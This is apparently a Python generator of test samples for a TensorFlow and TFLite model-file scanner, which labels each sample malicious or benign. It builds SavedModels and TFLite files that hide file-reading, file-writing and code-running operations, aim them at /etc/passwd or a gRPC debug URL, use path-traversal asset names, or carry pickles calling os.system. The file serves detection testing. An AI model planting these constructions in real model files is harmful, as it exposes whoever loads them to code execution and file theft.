"""TensorFlow: SavedModel, MetaGraph, frozen graphs, TFLite."""
import struct

from pickleasm import Call, G, dumps
from protow import f
from f_keras import lam_code

FAM = "tensorflow"


def s_attr(v):
    return f(2, v)


def strconst(v):
    return f(8, f(1, 7) + f(2, b"") + f(8, v))


def node(name, op, ins=(), attrs=None):
    return f(1, name) + f(2, op) + b"".join(f(3, i) for i in ins) + b"".join(f(5, f(1, k) + f(2, v)) for k, v in (attrs or {}).items())


def func(name, nodes):
    return f(1, f(1, name)) + b"".join(f(3, n) for n in nodes)


def graph(nodes, funcs=()):
    return b"".join(f(1, n) for n in nodes) + (f(2, b"".join(f(1, x) for x in funcs)) if funcs else b"") + f(4, f(1, 1286))


def meta(g, assets=(), objects=b"", tags=("serve",), ops=()):
    return f(1, f(2, b"".join(f(1, f(1, o)) for o in ops)) + b"".join(f(4, t) for t in tags) + f(5, "2.15.0")) + f(2, g) + f(3, f(1, "save/Const:0") + f(2, "save/control:0") + f(3, "save/restore_all")) + b"".join(f(6, f(1, f(1, "asset:0")) + f(2, a)) for a in assets) + f(7, objects)


def saved(g, **kw):
    return f(1, 1) + f(2, meta(g, **kw))


BASE = [("x", "Placeholder", (), {}), ("w", "VarHandleOp", (), {"shared_name": f(2, "w")}), ("r", "ReadVariableOp", ("w",), {}), ("m", "MatMul", ("x", "r"), {}), ("b", "BiasAdd", ("m", "b0"), {}), ("y", "Relu", ("b",), {}), ("id", "Identity", ("y",), {})]
SAVER = [("save/Const", "Const", (), {"value": strconst("model")}), ("save/ShardedFilename", "ShardedFilename", ("save/Const",), {}), ("save/SaveV2", "SaveV2", ("save/ShardedFilename",), {}), ("save/Merge", "MergeV2Checkpoints", ("save/ShardedFilename",), {}), ("save/RestoreV2", "RestoreV2", ("save/Const",), {}), ("save/Assign", "AssignVariableOp", ("w", "save/RestoreV2"), {}), ("NoOp", "NoOp", (), {}), ("st", "StringJoin", ("save/Const",), {}), ("call", "StatefulPartitionedCall", ("x",), {"f": f(10, f(1, "__inference_signature_wrapper_1"))})]


class Flat:
    """Writes tables front to back; children follow their parent."""

    def __init__(self):
        self.b = bytearray()

    def align(self, n):
        self.b += b"\0" * (-len(self.b) % n)

    def put(self, spec):
        kind, v = spec
        if kind == "str":
            self.align(4)
            p = len(self.b)
            v = v.encode()
            self.b += struct.pack("<I", len(v)) + v + b"\0"
            return p
        if kind == "u8":
            self.align(4)
            p = len(self.b)
            self.b += struct.pack("<I", len(v)) + v
            return p
        if kind == "i32":
            self.align(4)
            p = len(self.b)
            self.b += struct.pack("<I%di" % len(v), len(v), *v)
            return p
        if kind == "vec":
            self.align(4)
            p = len(self.b)
            self.b += struct.pack("<I", len(v)) + b"\0" * (4 * len(v))
            for i, c in enumerate(v):
                q = self.put(c)
                at = p + 4 + 4 * i
                struct.pack_into("<I", self.b, at, q - at)
            return p
        # table: a list of None, ("int", n), ("byte", n) or a child
        self.align(4)
        vt = len(self.b)
        slots, off = [], 4
        for x in v:
            slots.append(0 if x is None else off)
            off += 0 if x is None else 4
        self.b += struct.pack("<HH", 4 + 2 * len(v), off) + b"".join(struct.pack("<H", o) for o in slots)
        self.align(4)
        p = len(self.b)
        self.b += struct.pack("<i", p - vt) + b"\0" * (off - 4)
        for x, o in zip(v, slots):
            if x is None:
                continue
            if x[0] == "int":
                struct.pack_into("<i", self.b, p + o, x[1])
            elif x[0] == "byte":
                struct.pack_into("<b", self.b, p + o, x[1])
            else:
                q = self.put(x)
                struct.pack_into("<I", self.b, p + o, q - (p + o))
        return p


def tflite(ops, rng, meta=(), desc="converted", version=3):
    codes = [("table", [("byte", min(c, 127) if isinstance(c, int) else 32), None if isinstance(c, int) else ("str", c), ("int", 1), ("int", c if isinstance(c, int) else 32)]) for c in ops]
    tens = [("table", [("i32", [1, 4]), ("byte", 0), ("int", i), ("str", "t%d" % i)]) for i in range(len(ops) + 1)]
    oper = [("table", [("int", i), ("i32", [i]), ("i32", [i + 1])]) for i in range(len(ops))]
    sub = ("table", [("vec", tens), ("i32", [0]), ("i32", [len(ops)]), ("vec", oper), ("str", "main")])
    bufs = [("table", [])] + [("table", [("u8", rng.randbytes(16))]) for _ in ops] + [("table", [("u8", m[1])]) for m in meta]
    md = [("table", [("str", m[0]), ("int", 1 + len(ops) + i)]) for i, m in enumerate(meta)]
    w = Flat()
    w.b += b"\0\0\0\0TFL3"
    p = w.put(("table", [("int", version), ("vec", codes), ("vec", [sub]), ("str", desc), ("vec", bufs), None, ("vec", md) if md else None]))
    struct.pack_into("<I", w.b, 0, p)
    return bytes(w.b)


def build(s):
    rng = s.rng(FAM)
    N = lambda l: [node(*x) for x in l]
    good = N(BASE + SAVER)
    files = lambda pb, extra=None: {"saved_model.pb": pb, "variables/variables.index": b"\x00\x00\x02\x08\x01" + rng.randbytes(40), "variables/variables.data-00000-of-00001": rng.randbytes(200), "fingerprint.pb": f(1, 12345), **(extra or {})}
    HIGH = ["ReadFile", "WriteFile", "PyFunc", "PyFuncStateless", "EagerPyFunc", "RpcCall", "DebugIdentityV3", "ImmutableConst", "MatchingFiles", "DistributedSave"]
    thr = {"ReadFile": "file-read", "WriteFile": "file-write", "MatchingFiles": "file-read", "DistributedSave": "file-write", "ImmutableConst": "file-read", "RpcCall": "network", "DebugIdentityV3": "network"}
    arg = {"ReadFile": {"x": f(2, "/etc/passwd")}, "DebugIdentityV3": {"debug_urls": f(1, f(2, "grpc://192.0.2.5:2333"))}, "ImmutableConst": {"memory_region_name": f(2, "/etc/passwd")}, "PyFunc": {"token": f(2, "pyfunc_0")}}
    for op in HIGH:
        n = [node("p", "Const", (), {"value": strconst("/etc/passwd")}), node("n_" + op, op, ("p", "p"), arg.get(op, {}))]
        t = thr.get(op, "code-exec")
        s.add(FAM, "malicious", "saved_model.pb", saved(graph(good + n)), "SavedModel: %s in the graph" % op, t, fmt="savedmodel")
        s.add_dir(FAM, "malicious", files(saved(graph(good, [func("__inference_signature_wrapper_1", N(BASE)), func("__inference_f_2", n)]))), "SavedModel: %s in a function" % op, t, fmt="savedmodel")
        k = rng.randrange(4)
        if k == 0:
            s.add(FAM, "malicious", "frozen_graph.pb", graph(good + n), "frozen graph: %s" % op, t, fmt="graphdef")
        elif k == 1:
            s.add(FAM, "malicious", "model.ckpt.meta", meta(graph(good + n)), "MetaGraph: %s" % op, t, fmt="metagraph")
        elif k == 2:
            inner = graph([node("ds", "TensorSliceDataset"), node("n", op, ("ds",), arg.get(op, {}))] + N(BASE[:3]))
            s.add(FAM, "malicious", "saved_model.pb", saved(graph(good + [node("g", "Const", (), {"value": strconst(inner)}), node("d", "DatasetFromGraph", ("g",))])), "SavedModel: %s in a graph inside a constant" % op, t, fmt="savedmodel")
        else:
            s.add(FAM, "malicious", "saved_model.pb", f(1, 1) + f(2, meta(graph(good))) + f(2, meta(graph(good + n), tags=("train",))), "SavedModel: %s in the second meta graph" % op, t, fmt="savedmodel")
    for op in ("WriteFile", "ReadFile"):
        inner = graph([node("n", op, (), {})] + N(BASE))
        s.add(FAM, "malicious", "saved_model.pb", saved(graph(good, [func("__inference_g", [node("c", "Const", (), {"value": strconst(inner)}), node("d", "DatasetFromGraph", ("c",))])])), "SavedModel: %s in a graph inside a constant of a function" % op, thr[op], fmt="savedmodel")
        inner2 = graph([node("c", "Const", (), {"value": strconst(inner)}), node("d", "DatasetFromGraph", ("c",))])
        s.add(FAM, "malicious", "saved_model.pb", saved(graph(good + [node("c", "Const", (), {"value": strconst(inner2)}), node("d", "DatasetFromGraph", ("c",))])), "SavedModel: %s two constants deep" % op, thr[op], fmt="savedmodel")
        s.add(FAM, "malicious", "saved_model.pb", saved(graph([node("many_%d" % i, "Identity", ("x",)) for i in range(3000)] + [node("n", op)])), "SavedModel: %s after 3,000 nodes" % op, thr[op], fmt="savedmodel")
    for op in ("PrintV2", "RegisterDataset", "LoadDataset", "RegisterDatasetV2"):
        s.add(FAM, "suspicious", "saved_model.pb", saved(graph(good + [node("n", op, (), {"output_stream": f(2, "file:///tmp/case.log"), "path": f(2, "/tmp/x")})])), "SavedModel: %s" % op, "file-write", fmt="savedmodel")
    for a in ("../../../etc/passwd", "/etc/passwd", "..\\..\\x", "a/../../x"):
        s.add(FAM, "malicious", "saved_model.pb", saved(graph(good), assets=(a,)), "SavedModel: asset name %s" % a, "path-traversal", fmt="savedmodel")
    import json
    km = json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__tuple__", "items": [lam_code(rng), None, None]}, "function_type": "lambda"}}]}})
    obj = lambda md, ident="_tf_keras_sequential": f(1, f(4, f(1, ident) + f(2, f(1, 1)) + f(3, md)))
    s.add_dir(FAM, "malicious", files(saved(graph(good)), {"keras_metadata.pb": f(1, f(1, 0) + f(2, "root") + f(3, "_tf_keras_sequential") + f(4, km))}), "SavedModel: Keras metadata with a Lambda", "code-exec", fmt="savedmodel")
    s.add(FAM, "malicious", "saved_model.pb", saved(graph(good), objects=obj(km)), "SavedModel: object graph with a Lambda", "code-exec", fmt="savedmodel")
    s.add_dir(FAM, "malicious", files(saved(graph(good)), {"assets.extra/hook.pkl": dumps(Call(G("os", "system"), "echo"), 2)}), "SavedModel: pickle in assets.extra", "code-exec", fmt="savedmodel")
    s.add(FAM, "malicious", "saved_model.pb", dumps(Call(G("os", "system"), "echo"), 2), "pickle named saved_model.pb", "code-exec")
    ok = lambda pb, tech, extra=None: s.add_dir(FAM, "benign", files(pb, extra), tech, fmt="savedmodel")
    ok(saved(graph(good)), "SavedModel: dense model with saver")
    ok(saved(graph(good, [func("__inference_signature_wrapper_%d" % i, N(BASE)) for i in range(5)])), "SavedModel: functions")
    ok(saved(graph(good + [node("h", "HashTableV2"), node("i", "InitializeTableFromTextFileV2", ("h", "p")), node("p", "Const", (), {"value": strconst("vocab.txt")})]), assets=("vocab.txt",)), "SavedModel: table from an asset", {"assets/vocab.txt": "eval\nexec\nos.system\n"})
    ok(saved(graph(good + [node("t", "Const", (), {"value": strconst("ReadFile WriteFile PyFunc are words here")}), node("ReadFile_like_name", "Identity", ("x",))])), "SavedModel: operator names as text")
    ok(saved(graph(good + [node("w%d" % i, "While", ("x",), {"body": f(10, f(1, "b"))}) for i in range(3)] + [node("a", "Assert"), node("pe", "ParseExampleV2"), node("dj", "DecodeJpeg"), node("st", "StaticRegexReplace")], [func("b", N(BASE))])), "SavedModel: loops, parsing and images")
    ok(saved(graph(good), objects=obj(json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"units": 1}}]}}))), "SavedModel: object graph of Keras", {"keras_metadata.pb": f(1, f(1, 0) + f(2, "root") + f(3, "_tf_keras_sequential") + f(4, '{"class_name": "Sequential", "config": {"layers": []}}'))})
    s.add(FAM, "benign", "frozen_graph.pb", graph(N(BASE)), "frozen graph", fmt="graphdef")
    s.add(FAM, "benign", "model.ckpt.meta", meta(graph(good)), "MetaGraph", fmt="metagraph")
    s.add_dir(FAM, "benign", {"checkpoint": 'model_checkpoint_path: "model.ckpt-100"\nall_model_checkpoint_paths: "model.ckpt-100"\n', "model.ckpt-100.index": b"\x00\x00\x02\x08\x01" + rng.randbytes(60), "model.ckpt-100.data-00000-of-00001": rng.randbytes(300), "model.ckpt-100.meta": meta(graph(good))}, "checkpoint of version 1", fmt="tf-checkpoint")
    s.add(FAM, "benign", "events.out.tfevents.1700000000.host", struct.pack("<QI", 24, 0) + rng.randbytes(24) + b"\0" * 4, "event log", fmt="tfevents")
    # TFLite
    for op in ("FlexReadFile", "FlexWriteFile", "FlexPyFunc", "FlexEagerPyFunc", "FlexMatchingFiles"):
        s.add(FAM, "malicious", rng.choice(["model.tflite", "model.lite", "net.bin"]), tflite([9, op, 25], rng), "TFLite: %s" % op, thr.get(op[4:], "code-exec"), fmt="tflite")
    for op in ("MyCustomOp", "evil_op", "Run"):
        s.add(FAM, "suspicious", "model.tflite", tflite([9, op], rng), "TFLite: custom operator %s" % op, "custom-op", fmt="tflite")
    for op in ("FlexErf", "TFLite_Detection_PostProcess", "FlexTensorListReserve"):
        s.add(FAM, "review", "model.tflite", tflite([9, op], rng), "TFLite: common custom operator %s" % op, "custom-op", fmt="tflite")
    bad = bytearray(tflite([9, 25], rng))
    s.add(FAM, "suspicious", "model.tflite", bytes(bad[:4]) + b"TFL3" + struct.pack("<I", 0xFFFFFFF0) + bytes(bad[12:20]) + b"\xff" * 200, "TFLite: offsets outside the file", "structure", fmt="tflite")
    for ops in ([9, 25], [3, 4, 17, 22, 9], [0, 18, 41], [114, 9, 127, 130]):
        s.add(FAM, "benign", "model.tflite", tflite(ops, rng, meta=(("min_runtime_version", b"1.14.0\0"), ("TFLITE_METADATA", rng.randbytes(60)))), "TFLite: builtin operators", fmt="tflite")
    s.add(FAM, "benign", "model.tflite", tflite([9] * 60, rng, desc="os.system FlexReadFile as text"), "TFLite: text in the description", fmt="tflite")
    s.add(FAM, "inconclusive", "model.tflite", tflite([9] * 30, rng)[:700], "TFLite cut", fmt="tflite")
    s.add(FAM, "inconclusive", "saved_model.pb", saved(graph(good))[:300], "SavedModel cut", fmt="savedmodel")
